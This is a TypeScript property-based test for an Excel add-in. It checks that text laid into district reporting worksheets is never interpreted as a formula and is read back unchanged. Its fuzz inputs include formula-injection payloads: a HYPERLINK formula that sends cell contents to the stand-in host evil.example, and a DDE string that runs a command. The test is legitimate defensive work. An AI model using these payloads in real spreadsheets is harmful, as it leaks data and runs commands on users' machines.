import fc from 'fast-check';
import { afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import type { DistrictSheet } from '../../../addin/sheets/district-sheet.ts';
import { layAllRows } from '../../../addin/workbook/city/lay-all-rows.ts';
import { layConsolidation } from '../../../addin/workbook/city/lay-consolidation.ts';
import { layTrend } from '../../../addin/workbook/city/lay-trend.ts';
import { layForm } from '../../../addin/workbook/forms/form-sheet.ts';
import { targetForm } from '../../../addin/workbook/indicators/target-sheet.ts';
import { layIndicatorSheet } from '../../../addin/workbook/paper/lay-indicator-sheet.ts';
import { registerForm } from '../../../addin/workbook/registers/register-sheet.ts';
import { layRevision } from '../../../addin/workbook/review/lay-revision.ts';
import { headerRow as entryHeaderRow, firstBodyRow } from '../../../addin/workbook/sheets/frame.ts';
import { laySheet } from '../../../addin/workbook/sheets/lay-sheet.ts';
import { rowsFromBlock } from '../../../addin/workbook/sheets/rows.ts';
import { districts } from '../../../shared/catalogue/districts.ts';
import { defaultEvaluationScale } from '../../../shared/catalogue/evaluation-scale.ts';
import { withoutFigures } from '../../../shared/indicator/compilers/to-result.ts';
import { type Indicator, sheetColumns, subjectColumn, subjectNameColumn } from '../../../shared/indicator/indicator.ts';
import { districtOffice } from '../../../shared/rules/offices/offices.ts';
import { expectedRows } from '../../../shared/rules/sheets/expected-rows.ts';
import { lockedChanges } from '../../../shared/rules/sheets/locked-changes.ts';
import { wholeSheet } from '../../../shared/rules/sheets/sheet-access.ts';
import type { District } from '../../../shared/terms/district.ts';
import type { Cell, EntryRow } from '../../../shared/terms/row.ts';
import { annexOf } from '../../../shared/terms/sheet.ts';
import '../../chance.ts';
import { indicators } from '../../shared/catalogue/catalogue.ts';
import { stubPage } from './bare-page.ts';
import { FakeExcel, type FakeSheet } from './fake-excel.ts';
import { type Reader, readAsExcel, readInWorkbench } from './read-as-excel.ts';
import { samplePaper } from './sample-paper.ts';

/**
 * No foreign formula, ever, and no text changed: texts that Excel would calculate, convert or cut, in every cell, column,
 * label, unit, choice and title of ten sheets and of the planning office's worksheets, which the add-in's own code lays
 * in workbooks that read as strictly as Excel may.
 */

const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  ' =',
  "'",
  "''",
  '＝',
  '＋',
  '－',
  '＠',
  '$',
  '(',
  '"',
  '#',
  '',
];
const bodies = [
  '1+1',
  'HYPERLINK("https://evil.example/?"&A1,"คลิก")',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'รอผล',
  ' ไม่มี',
  '5',
  'A1',
  '1-3',
  '1/2563',
  '50%',
  '001',
  'TRUE',
  '1e5',
  '10:30',
  '3 ม.ค. 2563',
  'Jan 5',
  'N/A',
];
const foreignText = fc
  .tuple(
    fc.constantFrom(...beginnings),
    fc.oneof(fc.constantFrom(...bodies), fc.string({ minLength: 1, maxLength: 40 })),
    fc.oneof({ weight: 9, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constant('ก'.repeat(300)) }),
  )
  .map((parts) => parts.join(''))
  // A blank cell says nothing, and is read as none.
  .filter((text) => text.trim() !== '');

/** Hands out texts, each another one, and remembers what it gave. */
function supplyOf(count: number) {
  const drawn = fc.sample(foreignText, count);
  let given = 0;
  return {
    cell: (): string => drawn[given++ % drawn.length] ?? '',
    /** With a mark, since words are put together with others and must stay apart. */
    name: (): string => `${drawn[given++ % drawn.length]} ⟦${given}⟧`,
    given: () => given,
  };
}
type Supply = ReturnType<typeof supplyOf>;

/** The indicator with foreign words wherever it has some; what a list gives are cells. */
function foreignIndicator(indicator: Indicator, supply: Supply): Indicator {
  const words = () => ({ th: supply.name(), en: supply.name() });
  const fresh = structuredClone(indicator);
  const { rows } = fresh;
  Object.assign(fresh, { title: words(), type: words(), level: words(), owner: { ...fresh.owner, name: words() } });
  Object.assign(fresh, { definition: supply.name(), method: supply.name(), projects: [supply.name(), supply.name()] });
  Object.assign(rows, { subject: words() });
  if (rows.from === 'list') for (const line of rows.list) Object.assign(line, { name: words() });
  for (const column of fresh.columns) {
    Object.assign(column, { header: words(), hint: words() });
    if (column.type === 'choice') for (const choice of column.choices) Object.assign(choice, { label: words() });
    if (column.type === 'yesNo') Object.assign(column, { yes: words(), no: words() });
  }
  for (const measure of Object.values(fresh.measures)) Object.assign(measure, { name: words() });
  for (const result of fresh.results) Object.assign(result, { name: words(), unit: words() });
  return fresh;
}

const [district] = districts;
if (!district) throw new Error('no district');
function sheetOf(indicator: Indicator, supply: Supply): DistrictSheet {
  const period = { fiscalYear: indicator.fiscalYear, quarter: 1 as const };
  const communities = Array.from({ length: 12 }, (_, index) => ({
    ...{ code: `1001-${String(index + 1).padStart(3, '0')}`, name: supply.cell(), kind: 'urban' },
  }));
  return { indicator, period, office: districtOffice(district as District), communities, access: wholeSheet };
}

/** Every cell of a sheet that is not laid in has a foreign text, in columns of numbers, too. */
function foreignRows(sheet: DistrictSheet, supply: Supply): EntryRow[] {
  // Names of communities are the roster's, whatever was stored.
  const fromRoster = sheet.indicator.rows.from === 'roster';
  return expectedRows(sheet)
    .slice(0, 40)
    .map((row) => ({
      ...row,
      ...Object.fromEntries(
        sheetColumns(sheet.indicator)
          .filter(({ key }) => key !== subjectColumn && !(fromRoster && key === subjectNameColumn))
          .map(({ key }) => [key, supply.cell()]),
      ),
    }));
}

/** The formulas of a workbook that are none of ours: a text that was given, or a mark outside of quotes and brackets. */
function foreignFormulas(sheets: FakeSheet[], cells: ReadonlySet<Cell>): string[] {
  return sheets.flatMap((sheet) =>
    [...sheet.cells.values()].flatMap(({ formula }) => {
      if (formula === null) return [];
      const outside = formula.replace(/"(?:[^"]|"")*"/g, '').replace(/\[(?:'.|[^\]'])*\]/gs, '');
      return cells.has(formula) || outside.includes('⟦') || !formula.startsWith('=') ? [formula] : [];
    }),
  );
}

/** The names with a mark that stand in a worksheet letter for letter. */
const standing = (sheets: FakeSheet[], text: string) =>
  sheets.some((sheet) => [...sheet.cells.values()].some(({ value }) => String(value).includes(text)));

const nothingTaken = { titles: [], names: [], closed: false };

let reader: Reader;
let excel: FakeExcel;
beforeEach(() => {
  excel = new FakeExcel(reader);
  stubPage();
  vi.stubGlobal('Excel', excel.global);
  vi.stubGlobal('OfficeExtension', { Error });
});
afterEach(() => vi.unstubAllGlobals());

/** Ten sheets, of every kind of rows. */
const ten = [
  ...['list', 'district', 'roster'].flatMap((from) => indicators.filter(({ rows }) => rows.from === from).slice(0, 3)),
  indicators.find(({ columns }) => columns.length > 10) as Indicator,
];

const readers: [string, Reader][] = [
  ['its strictest', readAsExcel],
  ['the workbench', readInWorkbench(false)],
  ['the workbench where text cells hide an apostrophe', readInWorkbench(true)],
];

describe.each(readers)('as read by %s', (_reader, as) => {
  beforeAll(() => {
    reader = as;
  });
  let [texts, sheets] = [0, 0];

  describe.each(ten.map((indicator) => [indicator.code, indicator] as const))('the sheet of %s', (_code, plain) => {
    const supply = supplyOf(2_000);
    const indicator = foreignIndicator(plain, supply);
    const sheet = sheetOf(indicator, supply);
    const rows = foreignRows(sheet, supply);
    const cells = new Set(rows.flatMap((row) => Object.values(row)));

    test('has no foreign formula, and gives back every text', () => {
      laySheet(excel.context, sheet, { rows, notApplicable: false, revision: 1 }, nothingTaken);
      const [laid] = excel.sheets;
      const columns = sheetColumns(indicator);
      const box = {
        row: entryHeaderRow,
        column: 0,
        rows: firstBodyRow - entryHeaderRow + rows.length,
        columns: columns.length,
      };
      const block = laid?.block(box).map((line) => line.map(({ value }) => value)) ?? [];
      expect(foreignFormulas(excel.sheets, cells)).toEqual([]);
      const read = rowsFromBlock(sheet, block);
      expect(read).toEqual(rows);
      texts += supply.given();
      sheets += 1;

      const items = [{ subject: String(rows[0]?.[subjectColumn]), column: null, message: '' }];
      const request = { revision: 1, reopened: false, submittedAt: null, message: '', items };
      expect(lockedChanges({ ...sheet, returned: { request, rows } }, read)).toEqual([]);
    });

    test('has every choice in its list, and no prompt that Excel has no room for', () => {
      laySheet(excel.context, sheet, { rows, notApplicable: false, revision: 1 }, nothingTaken);
      const labels = indicator.columns.flatMap((column) =>
        column.type === 'choice'
          ? column.choices.filter(({ validFrom, validTo }) => !validFrom && !validTo).map(({ label }) => label.th)
          : column.type === 'yesNo'
            ? [column.yes.th, column.no.th]
            : [],
      );
      expect(labels.filter((label) => !standing(excel.sheets.slice(1), label))).toEqual([]);
      const lengths = excel.sheets.flatMap(({ validations }) =>
        validations.map((each) => {
          const { prompt, errorAlert } = each as Required<Pick<Excel.DataValidation, 'prompt' | 'errorAlert'>>;
          return [prompt.title.length <= 32, prompt.message.length <= 255, errorAlert.message.length <= 224];
        }),
      );
      expect(lengths.flat()).not.toContain(false);
    });

    test('is printed without a foreign formula, with its title and its report', async () => {
      const report = supply.name();
      const laid = await layIndicatorSheet(sheet, samplePaper(indicator, report), 'arabic');
      expect(laid.ok).toBe(true);
      expect(foreignFormulas(excel.sheets, cells)).toEqual([]);
      expect(standing(excel.sheets, indicator.title.th.trim())).toBe(true);
    });

    test('is shown to a reviewer with the same texts, and what they were before', async () => {
      const before = foreignRows(sheet, supply);
      const revision = (own: EntryRow[], number: number) => ({
        ...{ indicator: indicator.code, period: '2563-Q1', district: '1001', revision: number, indicatorVersion: 1 },
        ...{
          roster: '',
          rows: own,
          report: '',
          notApplicable: false,
          confirmed: false,
          answers: {},
          ...annexOf({}),
          savedBy: supply.name(),
        },
        result: withoutFigures(indicator, 'not-reported'),
        progress: { expected: 0, filled: 0, valid: 0, excluded: 0, carried: 0, unchanged: 0 },
        savedAt: '2020-01-10T03:00:00.000Z',
      });
      const shown = { indicator, period: sheet.period, district: district as District, state: 'submitted' as const };
      await layRevision({ ...shown, revision: revision(rows, 2), before: revision(before, 1), from: 'แผ่น' });
      expect(
        foreignFormulas(excel.sheets, new Set([...cells, ...before.flatMap((row) => Object.values(row))])),
      ).toEqual([]);
      const lost = rows.flatMap((row) => Object.values(row)).filter((text) => !standing(excel.sheets, String(text)));
      expect(lost).toEqual([]);
      texts += before.length * sheetColumns(indicator).length;
    });
  });

  describe('the planning office’s worksheets', () => {
    const supply = supplyOf(5_000);
    const [plain] = ten.slice(-1);
    const indicator = foreignIndicator(plain as Indicator, supply);
    const sheet = sheetOf(indicator, supply);
    const { period } = sheet;
    const code = `${period.fiscalYear}-Q1`;
    const result = withoutFigures(indicator, 'not-reported');
    const made = { by: 1, versions: [{ version: 1, districts: 1 }], leftOut: [], restated: 0 };
    const together = { ...made, result, counted: 1, notApplicable: 0, expected: 50 };
    const window = { opensOn: '2020-01-01', dueOn: '2020-01-15', closesOn: '2020-01-31', window: 'open' as const };

    test('all rows of all districts: no foreign formula, every text as it is stored', async () => {
      const stored = districts.slice(0, 20).map(({ code: of }) => ({
        ...{ district: of, state: 'draft' as const, revision: 1, savedAt: '2020-01-10T03:00:00.000Z' },
        ...{ savedBy: supply.name(), rows: foreignRows(sheet, supply) },
      }));
      const content = { indicator: indicator.code, period: code, view: 'now' as const, districts: stored };
      const laid = await layAllRows(
        { indicator, period, content, owner: null, at: '2020-01-12T03:00:00.000Z' },
        () => {},
      );
      expect(laid.ok).toBe(true);
      const cells = stored.flatMap(({ rows }) => rows.flatMap((row) => Object.values(row)));
      expect(foreignFormulas(excel.sheets, new Set(cells))).toEqual([]);
      const values = new Set(excel.sheets.flatMap((each) => [...each.cells.values()].map(({ value }) => value)));
      expect(cells.filter((text) => !values.has(text as string))).toEqual([]);
      texts += cells.length;
    });

    test('the city: no foreign formula, its title and headers as they are', async () => {
      const line = (of: (typeof districts)[number]) => ({
        ...{
          district: of.code,
          name: { th: supply.name(), en: 'x' },
          zone: of.zone,
          state: 'submitted' as const,
          step: 1,
        },
        ...{
          revision: 1,
          shown: 1,
          submittedAt: null,
          late: false,
          dueOn: '2020-01-15',
          extended: false,
          overdue: false,
        },
        ...{
          progress: null,
          result,
          basis: null,
          againstTarget: null,
          againstPrevious: null,
          flags: [],
          request: null,
        },
        evaluation: { scores: { '2.1': 0 }, number: '0', remark: supply.name(), at: '', by: '' },
        plea: null,
      });
      const zones = [{ zone: { th: supply.name(), en: 'x' }, ...together }];
      const lines = districts.map(line);
      const consolidation = {
        ...{ indicator: indicator.code, version: 1, period: code, view: 'now' as const, cancelled: null, ...window },
        ...{ at: '2020-01-12T03:00:00.000Z', zones, districts: lines },
        owner: null,
        city: { ...together, target: null, againstTarget: null, againstPrevious: null },
      };
      const laid = await layConsolidation(
        { indicator, period, consolidation },
        { scale: defaultEvaluationScale, typing: true, asked: true },
      );
      expect(laid.ok).toBe(true);
      expect(foreignFormulas(excel.sheets, new Set())).toEqual([]);
      expect(lines.filter(({ name }) => !standing(excel.sheets, name.th))).toEqual([]);
      expect(lines.filter(({ evaluation }) => !standing(excel.sheets, evaluation.remark))).toEqual([]);
      expect(standing(excel.sheets, indicator.title.th)).toBe(true);
    });

    test('the trend: no foreign formula, its title as it is', async () => {
      const point = { period: code, cancelled: false, target: null, ...together, districts: {}, bases: {}, version: 1 };
      const trend = { indicator: indicator.code, view: 'now' as const, points: [point] };
      const laid = await layTrend({ indicator, trend, at: '2020-01-12T03:00:00.000Z' });
      expect(laid.ok).toBe(true);
      expect(foreignFormulas(excel.sheets, new Set())).toEqual([]);
      expect(standing(excel.sheets, indicator.title.th)).toBe(true);
    });

    test('a register and a year’s targets', () => {
      const entries = sheet.communities.map((one) => ({ ...one, from: '2018-10-01', to: null, mergedInto: null }));
      const form = registerForm({ district: district as District, period, id: 'x', entries });
      layForm(excel.context, form, nothingTaken);
      const { code: of, version, title, results } = indicator;
      layForm(
        excel.context,
        targetForm({ fiscalYear: 2563, closed: [], indicators: [{ indicator: of, version, title, results }] }),
        nothingTaken,
      );
      expect(foreignFormulas(excel.sheets, new Set(entries.map(({ name }) => name)))).toEqual([]);
      expect(entries.filter(({ name }) => !standing(excel.sheets, name))).toEqual([]);
      expect(standing(excel.sheets, indicator.title.th)).toBe(true);
    });

    test('more than five thousand texts went through ten sheets', () => {
      expect(sheets).toBe(10);
      expect(texts).toBeGreaterThan(5_000);
    });
  });
});
